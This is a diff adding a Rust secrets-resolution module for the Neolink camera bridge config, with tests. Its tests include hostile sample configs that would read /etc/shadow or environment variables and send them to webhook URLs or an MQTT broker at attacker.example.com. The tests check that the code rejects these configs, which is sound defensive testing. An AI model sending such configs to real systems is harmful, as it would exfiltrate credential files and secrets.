@@ -0,0 +1,403 @@
+//! Resolves the secrets in the config
+//!
+//! Passwords can be given directly, read from a file with `password_file`,
+//! read from an environment variable with `password_env` or reference
+//! environment variables with `${VAR}` inside the value itself.
+//! Use `$${` to write a literal `${`.
+//!
+//! The webhook urls and headers can reference environment variables in the
+//! same way, such as for an access token. They are filled in next to the
+//! originals so that the secrets are not in the config shared over MQTT or
+//! written back to the file.
+//!
+//! A config published over MQTT never reads the files or the environment,
+//! otherwise whoever can publish it could read any of them. It may only keep
+//! the references of the current config, whose secrets are then reused.
+use anyhow::{anyhow, Context, Result};
+use std::{env, fs, path::Path};
+
+use super::{Config, WebhookConfig};
+
+impl Config {
+    /// Replace the secret references in the config with the actual secrets
+    ///
+    /// This is done on every load so that a reload will pick up changed secrets
+    pub(crate) fn resolve_secrets(&mut self) -> Result<()> {
+        for camera in self.cameras.iter_mut() {
+            camera.password = resolve(
+                camera.password.as_deref(),
+                camera.password_file.as_deref(),
+                camera.password_env.as_deref(),
+            )
+            .with_context(|| format!("cameras.{}.password", camera.name))?;
+        }
+        for user in self.users.iter_mut() {
+            user.pass = resolve(
+                user.pass.as_deref(),
+                user.pass_file.as_deref(),
+                user.pass_env.as_deref(),
+            )
+            .with_context(|| format!("users.{}.pass", user.name))?;
+        }
+        for webhook in self.webhooks.iter_mut() {
+            webhook.resolve_secrets()?;
+        }
+        if let Some(mqtt) = self.mqtt.as_mut() {
+            if let Some((username, password)) = mqtt.credentials.as_ref() {
+                let username = interpolate(username).context("mqtt.credentials")?;
+                let password = resolve(
+                    Some(password),
+                    mqtt.password_file.as_deref(),
+                    mqtt.password_env.as_deref(),
+                )
+                .context("mqtt.credentials")?
+                .unwrap_or_default();
+                mqtt.credentials = Some((username, password));
+            }
+        }
+        Ok(())
+    }
+
+    /// Like [`Config::resolve_secrets`] for a config that came over MQTT
+    ///
+    /// The `*_file`, `*_env` and `${VAR}` references are only accepted if
+    /// they are the same as in the `current` config and its secrets are used
+    pub(crate) fn resolve_mqtt_secrets(&mut self, current: &Config) -> Result<()> {
+        for camera in self.cameras.iter_mut() {
+            let current = current
+                .cameras
+                .iter()
+                .find(|c| c.name == camera.name)
+                .map(|c| {
+                    (
+                        c.password.as_deref(),
+                        c.password_file.as_deref(),
+                        c.password_env.as_deref(),
+                    )
+                });
+            camera.password = resolve_shared(
+                camera.password.as_deref(),
+                camera.password_file.as_deref(),
+                camera.password_env.as_deref(),
+                current,
+            )
+            .with_context(|| format!("cameras.{}.password", camera.name))?;
+        }
+        for user in self.users.iter_mut() {
+            let current = current.users.iter().find(|u| u.name == user.name).map(|u| {
+                (
+                    u.pass.as_deref(),
+                    u.pass_file.as_deref(),
+                    u.pass_env.as_deref(),
+                )
+            });
+            user.pass = resolve_shared(
+                user.pass.as_deref(),
+                user.pass_file.as_deref(),
+                user.pass_env.as_deref(),
+                current,
+            )
+            .with_context(|| format!("users.{}.pass", user.name))?;
+        }
+        for webhook in self.webhooks.iter_mut() {
+            let current = current
+                .webhooks
+                .iter()
+                .find(|w| w.url == webhook.url && w.headers == webhook.headers);
+            if let Some(current) = current {
+                webhook.resolved_url = current.resolved_url.clone();
+                webhook.resolved_headers = current.resolved_headers.clone();
+            } else {
+                no_reference(&webhook.url).context("webhooks.url")?;
+                for (name, value) in webhook.headers.iter() {
+                    no_reference(value).with_context(|| format!("webhooks.headers.{name}"))?;
+                }
+                webhook.resolved_url = webhook.url.clone();
+                webhook.resolved_headers = webhook.headers.clone();
+            }
+        }
+        if let Some(mqtt) = self.mqtt.as_mut() {
+            let current = current.mqtt.as_ref().map(|m| {
+                (
+                    m.credentials
+                        .as_ref()
+                        .map(|(_, password)| password.as_str()),
+                    m.password_file.as_deref(),
+                    m.password_env.as_deref(),
+                )
+            });
+            let password = resolve_shared(
+                mqtt.credentials
+                    .as_ref()
+                    .map(|(_, password)| password.as_str()),
+                mqtt.password_file.as_deref(),
+                mqtt.password_env.as_deref(),
+                current,
+            )
+            .context("mqtt.credentials")?;
+            if let Some((username, _)) = mqtt.credentials.as_ref() {
+                no_reference(username).context("mqtt.credentials")?;
+                mqtt.credentials = Some((username.clone(), password.unwrap_or_default()));
+            }
+        }
+        Ok(())
+    }
+}
+
+impl WebhookConfig {
+    /// Fill in the `${VAR}`s of the url and headers
+    pub(crate) fn resolve_secrets(&mut self) -> Result<()> {
+        self.resolved_url = interpolate(&self.url).context("webhooks.url")?;
+        self.resolved_headers = self
+            .headers
+            .iter()
+            .map(|(name, value)| {
+                interpolate(value)
+                    .with_context(|| format!("webhooks.headers.{name}"))
+                    .map(|value| (name.clone(), value))
+            })
+            .collect::<Result<_>>()?;
+        Ok(())
+    }
+}
+
+/// Get the secret from whichever of the sources is set
+fn resolve(
+    value: Option<&str>,
+    file: Option<&Path>,
+    env_name: Option<&str>,
+) -> Result<Option<String>> {
+    match (value.filter(|v| !v.is_empty()), file, env_name) {
+        (None, None, None) => Ok(value.map(str::to_string)),
+        (Some(value), None, None) => interpolate(value).map(Some),
+        (None, Some(file), None) => {
+            let secret = fs::read_to_string(file)
+                .with_context(|| format!("Failed to read the password file {:?}", file))?;
+            // Files made with echo and friends end in a new line
+            Ok(Some(secret.trim_end_matches(['\r', '\n']).to_string()))
+        }
+        (None, None, Some(name)) => env_var(name).map(Some),
+        _ => Err(anyhow!(
+            "Only one of the password, the password file or the password env can be set"
+        )),
+    }
+}
+
+/// Get the secret without reading any file or environment variable
+///
+/// The file and env can only be those of the `current` value, password,
+/// file and env, in which case the current password is kept
+fn resolve_shared(
+    value: Option<&str>,
+    file: Option<&Path>,
+    env_name: Option<&str>,
+    current: Option<(Option<&str>, Option<&Path>, Option<&str>)>,
+) -> Result<Option<String>> {
+    if file.is_none() && env_name.is_none() {
+        if let Some(value) = value {
+            no_reference(value)?;
+        }
+        return Ok(value.map(str::to_string));
+    }
+    match current {
+        Some((current_value, current_file, current_env))
+            if current_file == file && current_env == env_name =>
+        {
+            if value.is_some_and(|v| !v.is_empty()) {
+                Err(anyhow!(
+                    "Only one of the password, the password file or the password env can be set"
+                ))
+            } else {
+                Ok(current_value.map(str::to_string))
+            }
+        }
+        _ => Err(anyhow!(
+            "The password file and password env can only be changed in the config file"
+        )),
+    }
+}
+
+/// Error if `value` has a `${VAR}`, which is only filled in from the config file
+fn no_reference(value: &str) -> Result<()> {
+    if value.contains("${") {
+        Err(anyhow!("`${{VAR}}` can only be used in the config file"))
+    } else {
+        Ok(())
+    }
+}
+
+/// Replace any `${VAR}` in `value` with the environment variable `VAR`
+fn interpolate(value: &str) -> Result<String> {
+    let mut result = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(start) = rest.find('$') {
+        result.push_str(&rest[..start]);
+        rest = &rest[start..];
+        if let Some(escaped) = rest.strip_prefix("$${") {
+            result.push_str("${");
+            rest = escaped;
+        } else if let Some(reference) = rest.strip_prefix("${") {
+            let end = reference
+                .find('}')
+                .ok_or_else(|| anyhow!("Missing the closing `}}` of a `${{`"))?;
+            result.push_str(&env_var(&reference[..end])?);
+            rest = &reference[end + 1..];
+        } else {
+            result.push('$');
+            rest = &rest[1..];
+        }
+    }
+    result.push_str(rest);
+    Ok(result)
+}
+
+fn env_var(name: &str) -> Result<String> {
+    env::var(name).map_err(|e| match e {
+        env::VarError::NotPresent => anyhow!("Environment variable `{name}` is not set"),
+        env::VarError::NotUnicode(_) => {
+            anyhow!("Environment variable `{name}` is not valid unicode")
+        }
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_interpolate() {
+        env::set_var("NEOLINK_TEST_SECRET", "s3cret");
+        assert_eq!(interpolate("a${NEOLINK_TEST_SECRET}b").unwrap(), "as3cretb");
+        assert_eq!(
+            interpolate("$${NEOLINK_TEST_SECRET}").unwrap(),
+            "${NEOLINK_TEST_SECRET}"
+        );
+        assert_eq!(interpolate("$5 and $").unwrap(), "$5 and $");
+        assert!(interpolate("${NEOLINK_TEST_SECRET").is_err());
+        assert!(interpolate("${NEOLINK_TEST_UNSET}").is_err());
+    }
+
+    #[test]
+    fn test_webhook_secrets_are_not_serialized() {
+        env::set_var("NEOLINK_TEST_HOOK_HOST", "hooks.example.com");
+        env::set_var("NEOLINK_TEST_HOOK_TOKEN", "t0ken");
+        let (mut config, _) = Config::from_toml(
+            r#"
+[[cameras]]
+name = "Garage"
+username = "admin"
+address = "192.168.1.10:9000"
+
+[[webhooks]]
+url = "https://${NEOLINK_TEST_HOOK_HOST}/events"
+headers = { Authorization = "Bearer ${NEOLINK_TEST_HOOK_TOKEN}" }
+"#,
+        )
+        .unwrap();
+        config.resolve_secrets().unwrap();
+
+        let webhook = &config.webhooks[0];
+        assert_eq!(webhook.resolved_url, "https://hooks.example.com/events");
+        assert_eq!(webhook.resolved_headers["Authorization"], "Bearer t0ken");
+
+        let shared = toml::to_string(&config).unwrap();
+        assert!(shared.contains("https://${NEOLINK_TEST_HOOK_HOST}/events"));
+        assert!(shared.contains("Bearer ${NEOLINK_TEST_HOOK_TOKEN}"));
+        assert!(!shared.contains("hooks.example.com"));
+        assert!(!shared.contains("t0ken"));
+    }
+
+    const CURRENT: &str = r#"
+[[cameras]]
+name = "Garage"
+username = "admin"
+address = "192.168.1.10:9000"
+password_env = "NEOLINK_TEST_MQTT_CAMERA"
+
+[[webhooks]]
+url = "https://hooks.example.com/${NEOLINK_TEST_MQTT_HOOK}"
+"#;
+
+    fn mqtt_config(contents: &str) -> Result<Config> {
+        env::set_var("NEOLINK_TEST_MQTT_CAMERA", "camera-pass");
+        env::set_var("NEOLINK_TEST_MQTT_HOOK", "hook-path");
+        let (mut current, _) = Config::from_toml(CURRENT).unwrap();
+        current.resolve_secrets().unwrap();
+        let (mut config, _) = Config::from_toml(contents).unwrap();
+        config.resolve_mqtt_secrets(&current)?;
+        Ok(config)
+    }
+
+    #[test]
+    fn test_mqtt_keeps_current_secrets() {
+        // The published config is echoed back unchanged
+        let config = mqtt_config(CURRENT).unwrap();
+        assert_eq!(config.cameras[0].password.as_deref(), Some("camera-pass"));
+        assert_eq!(
+            config.webhooks[0].resolved_url,
+            "https://hooks.example.com/hook-path"
+        );
+    }
+
+    #[test]
+    fn test_mqtt_rejects_new_references() {
+        for contents in [
+            r#"
+[[cameras]]
+name = "Garage"
+username = "admin"
+address = "192.168.1.10:9000"
+password_file = "/etc/shadow"
+"#,
+            r#"
+[[cameras]]
+name = "Garage"
+username = "admin"
+address = "192.168.1.10:9000"
+password_env = "HOME"
+"#,
+            r#"
+[[cameras]]
+name = "Garage"
+username = "admin"
+address = "192.168.1.10:9000"
+password = "${HOME}"
+"#,
+            r#"
+cameras = []
+
+[[users]]
+name = "viewer"
+pass_file = "/etc/shadow"
+"#,
+            r#"
+cameras = []
+
+[[webhooks]]
+url = "https://attacker.example.com/${HOME}"
+"#,
+            r#"
+cameras = []
+
+[[webhooks]]
+url = "https://attacker.example.com/"
+headers = { Authorization = "${HOME}" }
+"#,
+            r#"
+cameras = []
+
+[mqtt]
+broker_addr = "attacker.example.com"
+port = 1883
+credentials = ["neolink", ""]
+password_file = "/etc/shadow"
+"#,
+        ] {
+            assert!(
+                mqtt_config(contents).is_err(),
+                "{:?} was accepted",
+                contents
+            );
+        }
+    }
+}